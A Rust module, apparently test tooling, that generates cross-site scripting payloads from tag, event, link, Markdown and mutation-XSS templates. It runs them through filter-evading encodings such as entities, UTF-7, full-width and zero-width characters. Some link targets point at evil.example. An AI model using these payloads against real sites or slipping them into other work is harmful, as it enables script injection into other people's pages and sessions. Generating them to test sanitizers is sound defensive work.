//! Payloads that run a script where a page interprets text as markup, as a link or as JavaScript.

use std::collections::HashSet;

use fastrand::Rng;

/// Script code. Each snippet is detectable: by a dialog, by the marker `pwned`, or by a request for
/// `/stray`.
const CODES: [&str; 20] = [
    "alert(1)",
    "prompt(1)",
    "confirm(1)",
    "pwned=1",
    "top.pwned=1",
    "alert`1`",
    "(alert)(1)",
    "[1].find(alert)",
    "window['al'+'ert'](1)",
    "eval('ale'+'rt(1)')",
    "\\u0061lert(1)",
    "self[atob('YWxlcnQ=')](1)",
    "setTimeout('alert(1)')",
    "Function('pwned=1')()",
    "onerror=alert;throw 1",
    "location='/stray'",
    "fetch('/stray')",
    "import('/stray')",
    "new Image().src='/stray'",
    "document.write('<img src=/stray>')",
];
const TAGS: [&str; 36] = [
    "img src=x",
    "image src=x",
    "svg",
    "body",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "details open",
    "dialog open",
    "video src=x",
    "audio src=x",
    "video><source",
    "iframe src=x",
    "iframe",
    "object data=x",
    "embed src=x",
    "script src=x",
    "link rel=stylesheet href=x",
    "style",
    "math",
    "marquee",
    "form",
    "a href=# id=x",
    "x tabindex=1",
    "xss contenteditable",
    "custom-element",
    "table background=x",
    "svg><animate attributeName=x dur=1s",
    "svg><set attributeName=x",
    "svg><image href=x",
    "frameset",
    "bgsound src=x",
    "applet",
    "isindex",
    "p style=animation-name:x",
];
const EVENTS: [&str; 32] = [
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onclick",
    "onauxclick",
    "oncontextmenu",
    "onmouseover",
    "onpointerenter",
    "onwheel",
    "ontoggle",
    "onbeforetoggle",
    "onanimationstart",
    "ontransitionend",
    "onbegin",
    "onend",
    "onrepeat",
    "onstart",
    "onfinish",
    "onpageshow",
    "onhashchange",
    "onpopstate",
    "onresize",
    "onscroll",
    "oncanplay",
    "onloadstart",
    "oninput",
    "onkeydown",
    "onpaste",
    "ondrag",
    "onmessage",
    "onselectionchange",
];
const GAPS: [&str; 8] = [" ", " ", " ", "/", "\t", "\n", "\u{c}", " x='>' "];
const QUOTES: [&str; 3] = ["", "\"", "'"];
/// Text that leaves the surrounding markup, and text that follows the payload. `@` is the payload.
const FRAMES: [&str; 28] = [
    "@",
    "@",
    "text @ text",
    "\">@",
    "'>@",
    "\"'>@<\"",
    "</span>@",
    "</strong></div></li></ul></salver-messages>@",
    "</a>@",
    "</script>@",
    "</script x>@<script>",
    "<!--<script>@",
    "</title>@",
    "</textarea>@",
    "</style>@",
    "</noscript>@",
    "</template>@",
    "-->@<!--",
    "<!-->@",
    "<!--@-->",
    "]]>@<![CDATA[",
    "<?@?>",
    "\"};@//",
    "';@//",
    "\\\";@//",
    "${@}",
    "{{@}}",
    "\u{2028}@\u{2029}",
];
/// Markup that parses differently after serializing and parsing again. `@` is an image that cannot
/// be loaded, `!` is the script.
const MUTATIONS: [&str; 32] = [
    "<noscript><p title=\"</noscript>@\">",
    "<math><mtext><table><mglyph><style><!--</style>@",
    "<math><mtext><table><mglyph><style><math>@",
    "<svg></p><style><a id=\"</style>@\">",
    "<form><math><mtext></form><form><mglyph><style></math>@",
    "<xmp><p title=\"</xmp>@\">",
    "<noembed><p title=\"</noembed>@\">",
    "<listing>&lt;img src=x onerror=!&gt;</listing>",
    "<textarea><p title=\"</textarea>@\">",
    "<title><p title=\"</title>@\">",
    "<svg><![CDATA[</svg>]]>@",
    "<svg><title><![CDATA[</title>@]]>",
    "<!-- --!>@-->",
    "<style><style/>@",
    "<select><option><style></select>@</style>",
    "<template><s><template><s>@",
    "<a id=\"\n\"><b title=\"</a>@\">",
    "<svg><desc><noscript></svg>@",
    "<iframe srcdoc='@'></iframe>",
    "<iframe src=javascript:!></iframe>",
    "<svg><a xlink:href=javascript:!><text y=9>x",
    "<svg><script>!</script>",
    "<svg><script href=data:,! />",
    "<script>!</script>",
    "<script/x>!</script >",
    "<object data=javascript:!>",
    "<embed src=javascript:!>",
    "<form action=javascript:!><button>x",
    "<button form=x formaction=javascript:!>x",
    "<meta http-equiv=refresh content='0;url=javascript:!'>",
    "<base href=javascript:/a/><a href=//!>x",
    "<a href=\"&#106;avascript&colon;!\">x",
];
/// Link targets. `!` is the script.
const LINKS: [&str; 20] = [
    "javascript:!",
    "JaVaScRiPt:!",
    " javascript:!",
    "\u{1}javascript:!",
    "java\tscript:!",
    "java\nscript:!",
    "javascript&colon;!",
    "java&#115;cript:!",
    "javascript%3A!",
    "javascript://x/%0a!",
    "vbscript:!",
    "view-source:javascript:!",
    "data:text/html,<script>!</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:http://x/!",
    "//evil.example/!",
    "/\\evil.example/!",
    "http:javascript:!",
    "https://x/\"onclick=\"!",
    "https://user:!@evil.example/",
];
/// Markdown with links. `@` is the link target.
const MARKDOWN: [&str; 14] = [
    "[x](@)",
    "![x](@)",
    "<@>",
    "[x](<@>)",
    "[x][1]\n\n[1]: @",
    "[x](/a \"@\")",
    "[x](/a '@')",
    "[x](@ \"onmouseover=alert(1) x=\")",
    "[![x](@)](@)",
    "* [x](@)\n> [x](@)",
    "`[x](@)`",
    "```@\n@\n```",
    "<a href=\"@\">x</a>",
    "<div>\n\n[x](@)\n\n</div>",
];

/// Returns `n` distinct payloads. A smaller `n` returns a prefix of the same sequence.
pub fn payloads(n: usize) -> Vec<String> {
    let (mut rng, mut seen, mut payloads) = (Rng::with_seed(1), HashSet::new(), Vec::new());
    while payloads.len() < n {
        let payload = payload(&mut rng);
        if seen.insert(payload.clone()) {
            payloads.push(payload);
        }
    }
    payloads
}

fn payload(rng: &mut Rng) -> String {
    let code = pick(rng, &CODES);
    let core = match rng.u64(..8) {
        0 => pick(rng, &LINKS).replace('!', code),
        1 => {
            let link = pick(rng, &LINKS).replace('!', code);
            pick(rng, &MARKDOWN).replace('@', &link)
        }
        2 | 3 => {
            let image = format!("<img src=x onerror={code}>");
            let mutation = pick(rng, &MUTATIONS);
            mutation.replace('!', code).replace('@', &image)
        }
        4 => {
            let (event, quote) = (pick(rng, &EVENTS), ["\"", "'"][rng.u64(..2) as usize]);
            return encoded(
                rng,
                &format!("x{quote} {event}={quote}{code}{quote} x={quote}"),
            );
        }
        _ => {
            let (tag, event) = (pick(rng, &TAGS), pick(rng, &EVENTS));
            let (gap, quote) = (pick(rng, &GAPS), pick(rng, &QUOTES));
            format!("<{tag}{gap}{event}={quote}{code}{quote}>")
        }
    };
    let framed = pick(rng, &FRAMES).replace('@', &core);
    encoded(rng, &framed)
}

fn pick<'a>(rng: &mut Rng, choices: &[&'a str]) -> &'a str {
    choices[rng.u64(..choices.len() as u64) as usize]
}

/// Encodes a payload in a way that may pass a filter, or returns it unchanged.
fn encoded(rng: &mut Rng, payload: &str) -> String {
    let each = |encode: fn(char) -> String| {
        let markup = |c| {
            if "<>\"'&=:".contains(c) {
                encode(c)
            } else {
                c.into()
            }
        };
        payload.chars().map(markup).collect()
    };
    match rng.u64(..24) {
        0 => each(|c| format!("&#{};", c as u32)),
        1 => each(|c| format!("&#x{:X}", c as u32)),
        2 => each(|c| format!("&amp;#{};", c as u32)),
        3 => each(|c| format!("%{:02X}", c as u32)),
        4 => each(|c| format!("\\u{:04x}", c as u32)),
        5 => each(|c| format!("\\x{:02x}", c as u32)),
        // Full-width characters, which a careless conversion turns into ASCII.
        6 => each(|c| char::from_u32(c as u32 + 0xfee0).unwrap().into()),
        7 => payload.replace('<', "+ADw-").replace('>', "+AD4-"),
        8 => payload.replace('<', "&lt;").replace('>', "&gt;"),
        9 => payload
            .replace("script", "sCrIpT")
            .replace(" on", " oN")
            .replace("img", "iMg"),
        10 => payload.replace("script", "scr<script>ipt"),
        11 => payload
            .replace('<', "<\u{200b}")
            .replace("on", "o\u{202e}n"),
        12 => payload.replace('<', "<\0"),
        13 => format!("\u{feff}{payload}\u{fffe}"),
        _ => payload.to_owned(),
    }
}
